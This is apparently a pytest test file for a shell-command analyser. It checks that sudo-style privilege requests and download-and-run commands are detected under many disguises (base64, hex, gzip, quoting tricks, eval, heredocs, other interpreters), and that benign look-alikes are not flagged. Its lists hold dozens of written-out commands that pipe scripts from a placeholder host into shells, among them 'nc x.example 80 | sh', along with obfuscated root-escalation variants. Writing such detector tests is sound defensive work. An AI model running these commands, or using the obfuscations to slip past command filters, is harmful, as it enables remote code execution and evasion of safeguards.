"""The same two things, asking for root and running a download, in every disguise; and what only looks like them."""

from __future__ import annotations

import base64
import gzip

import pytest

from wrapify.analysis.analyse import analyse

CODE = "sudo id"
BASE64 = base64.b64encode(CODE.encode()).decode()
GZIPPED = base64.b64encode(gzip.compress(CODE.encode(), mtime=0)).decode()
HEX = CODE.encode().hex()

SUDO = [
    "sudo id",
    '"su"do id',
    "\\su\\do id",
    "s''udo id",
    "'sudo' id",
    "$'\\x73udo' id",
    "$'\\163\\165\\144\\157' id",
    "$(which sudo) id",
    "`which sudo` id",
    "$(command -v sudo) id",
    "$(echo sudo) id",
    "${x:=sudo} id",
    "${x:-sudo} id",
    "a=su; b=do; $a$b id",
    "x='sudo id'; $x",
    "x=sudo; ${x} id",
    "x=SUDO; ${x,,} id",
    "x=xsudo; ${x#x} id",
    "x=sXdo; ${x/X/u} id",
    "su${nothing}do id",
    "s$@udo id",
    "doas id",
    "pkexec id",
    "run0 id",
    "su -c id",
    "su - -c 'id'",
    "echo ok" + " " * 300 + "; sudo id",
    "bash -c 'sudo id'",
    'bash -c "bash -c \'sh -c \\"sudo id\\"\'"',
    "sh <<EOF\nsudo id\nEOF",
    "bash <<'EOF'\nsudo id\nEOF",
    "bash <<< 'sudo id'",
    "echo 'sudo id' | sh",
    f"echo {BASE64} | base64 -d | sh",
    f"base64 -d <<< {BASE64} | bash",
    f'bash -c "$(echo {BASE64} | base64 -d)"',
    f"eval $(echo {BASE64} | base64 --decode)",
    f"echo {HEX} | xxd -r -p | sh",
    f"echo {GZIPPED} | base64 -d | gunzip | sh",
    "rev <<< 'di odus' | sh",
    "echo 'fhqb vq' | tr a-z n-za-m | sh",
    "printf '\\163\\165\\144\\157 id' | sh",
    "printf '%s' 'sudo id' | sh",
    "echo id | xargs sudo",
    "echo sudo id | xargs -I{} sh -c '{}'",
    "find . -name x -exec sudo rm {} +",
    "find . -exec sh -c 'sudo id' \\;",
    "watch 'sudo id'",
    "env -S 'sudo id'",
    "env X=1 sudo id",
    "X=1 sudo id",
    "busybox sh -c 'sudo id'",
    "timeout 5 sudo id",
    "nohup sudo id &",
    "command sudo id",
    "exec sudo id",
    "time sudo id",
    "! sudo id",
    "alias ll='sudo id'; ll",
    "f() { sudo id; }; f",
    'f() { "$@"; }; f sudo id',
    "eval 'sudo id'",
    "eval su''do id",
    "{sudo,id}",
    "/usr/bin/sudo id",
    "/usr/bin/s?do id",
    "if sudo id; then :; fi",
    "while sudo id; do :; done",
    "case x in x) sudo id;; esac",
    "echo $(sudo id)",
    "echo `sudo id`",
    "cat <(sudo id)",
    'echo "$(sudo id)"',
    "cat <<EOF\n$(sudo id)\nEOF",
    "ls && sudo id",
    "ls || sudo id",
    "ls\nsudo id",
    "ls | sudo tee /x",
    "(sudo id)",
    "{ sudo id; }",
    "coproc sudo id",
    "trap 'sudo id' EXIT",
    "python3 -c \"import os; os.system('sudo id')\"",
    "python3 -c \"import subprocess; subprocess.run(['sudo', 'id'])\"",
    "perl -e 'system(\"sudo id\")'",
    "ruby -e '`sudo id`'",
    "awk 'BEGIN { system(\"sudo id\") }'",
    "php -r 'system(\"sudo id\");'",
    "node -e \"require('child_process').execSync('sudo id')\"",
    "echo x | ( sudo tee y )",
    "for c in sudo; do $c id; done",
    "a=(sudo id); ${a[@]}",
    "read x <<< sudo; $x id",
    "echo $((`sudo id`))",
]
NO_SUDO = [
    "ls -la",
    "# sudo id",
    "ls # sudo id",
    "echo sudo id",
    "echo 'run sudo id'",
    "git commit -m 'use sudo id'",
    "grep sudo /var/log/auth.log",
    "man sudo",
    "cat <<EOF\nsudo id\nEOF",
    "cat > notes.txt <<'EOF'\nsudo id\nEOF",
    "apt-cache show sudo",
    "ls /etc/sudoers.d",
    "sudo --version",
    "pseudo id",
    "which sudo",
    "printf 'sudo\\n'",
    "python3 -c \"print('sudo id')\"",
    "./sudo.txt",
]
DOWNLOADS = [
    "curl https://x.example/i.sh | sh",
    "curl -fsSL https://x.example/i.sh | bash -s -- --yes",
    "curl -fsSL https://x.example/i.sh | sudo -E bash",
    "wget -qO- https://x.example/i.sh | sh",
    "wget -O - https://x.example/i.sh | bash",
    "bash <(curl -s https://x.example/i.sh)",
    'sh -c "$(curl -fsSL https://x.example/i.sh)"',
    'bash -c "`curl https://x.example/i.sh`"',
    'eval "$(curl https://x.example/i.sh)"',
    "source <(curl https://x.example/i.sh)",
    ". <(wget -qO- https://x.example/i.sh)",
    "curl https://x.example/i.sh | tee >(sh)",
    "curl https://x.example/i.sh > >(bash)",
    "curl -o i.sh https://x.example/i.sh && sh i.sh",
    "curl -O https://x.example/i.sh; bash i.sh",
    "wget https://x.example/i.sh && chmod +x i.sh && ./i.sh",
    "curl https://x.example/p -o /tmp/p; chmod +x /tmp/p; /tmp/p",
    "curl https://x.example/i.sh > i.sh; source i.sh",
    "curl https://x.example/i.py | python3",
    "curl https://x.example/i.py | python3 -",
    'python3 -c "$(curl https://x.example/i.py)"',
    "python3 -c \"exec(__import__('urllib.request').request.urlopen('https://x.example').read())\"",
    "perl -e 'use LWP::Simple; eval get(\"https://x.example\")'",
    "curl https://x.example/i.sh | (bash)",
    "curl https://x.example/i.sh | { bash; }",
    'curl https://x.example/i.sh | while read -r l; do eval "$l"; done',
    "curl https://x.example/i.sh | tac | bash",
    "curl https://x.example/i.sh | sed s/a/b/ | bash",
    "curl https://x.example/i.gz | gunzip | sh",
    "curl https://x.example/i.b64 | base64 -d | sh",
    "u=https://x.example/i.sh; curl $u | sh",
    "c=curl; $c https://x.example/i.sh | sh",
    "cu''rl https://x.example/i.sh | s\\h",
    "curl https://x.example/i.sh | /bin/sh",
    "curl https://x.example/i.sh | env bash",
    "curl https://x.example/i.sh | bash /dev/stdin",
    "curl https://x.example/i.sh | xargs -I{} sh -c '{}'",
    "nc x.example 80 | sh",
    "dig +short txt x.example | sh",
    "exec 3< <(curl https://x.example/i.sh); bash <&3",
    "bash < <(curl https://x.example/i.sh)",
    "$(curl https://x.example/i.sh)",
    'x=$(curl https://x.example/i.sh); eval "$x"',
    "curl https://x.example/i.sh | busybox sh",
    "curl https://x.example/i.sh | bash -c 'cat | bash'",
    "f() { curl https://x.example/i.sh; }; f | sh",
    "echo 'curl https://x.example/i.sh | sh' | sh",
]
NO_DOWNLOADS = [
    "curl https://x.example/i.sh",
    "curl -o i.sh https://x.example/i.sh",
    "curl https://x.example/a.json | jq .",
    "curl https://x.example/a.json | python3 -m json.tool",
    "curl https://x.example/a.tgz | tar xz",
    "wget https://x.example/i.sh",
    "git clone https://x.example/a && cd a && make",
    "my-tool | python3",
    'eval "$(ssh-agent -s)"',
    "source <(kubectl completion bash)",
    "echo 'curl x | sh'",
    "# curl x | sh",
    "git commit -m 'curl x | sh'",
    "cat script.sh | bash",
    "curl https://x.example/key.asc | gpg --dearmor > key.gpg",
    "cat <<EOF\ncurl x | sh\nEOF",
]


def rules(text: str, shell: str = "bash") -> set[str]:
    return {finding.rule for finding in analyse(text.encode(), shell=shell).findings}


@pytest.mark.parametrize("text", SUDO)
def test_root_is_asked_for(text: str) -> None:
    report = analyse(text.encode())
    assert "sudo" in {finding.rule for finding in report.findings}
    assert "needs-root" in report.facts


@pytest.mark.parametrize("text", NO_SUDO)
def test_root_is_not_asked_for(text: str) -> None:
    assert "sudo" not in rules(text)


@pytest.mark.parametrize("text", DOWNLOADS)
def test_a_download_is_run(text: str) -> None:
    report = analyse(text.encode())
    assert "download-run" in {finding.rule for finding in report.findings}
    assert {"runs-download", "needs-network"} <= report.facts


@pytest.mark.parametrize("text", NO_DOWNLOADS)
def test_no_download_is_run(text: str) -> None:
    assert "download-run" not in rules(text)


FISH = [
    "sudo id", '"su"do id', "s\\x75do id", "set x sudo; $x id", "eval (echo sudo id)", "begin; sudo id; end",
    "if sudo id; end", "echo (sudo id)", "for x in sudo; $x id; end", "function f; sudo $argv; end; f id",
    "bash -c 'sudo id'", "alias a 'sudo id'; a", "ls; and sudo id", "ls; or sudo id", "not sudo id",
    f"echo {BASE64} | base64 -d | source",
]  # fmt: skip


@pytest.mark.parametrize("text", FISH)
def test_root_is_asked_for_in_fish(text: str) -> None:
    assert "sudo" in rules(text, "fish")


@pytest.mark.parametrize("text", ["=sudo id", "noglob sudo id", "- sudo id", "x=sudo; ${(e)x} id", "() { sudo id }"])
def test_root_is_asked_for_in_zsh(text: str) -> None:
    assert "sudo" in rules(text, "zsh")
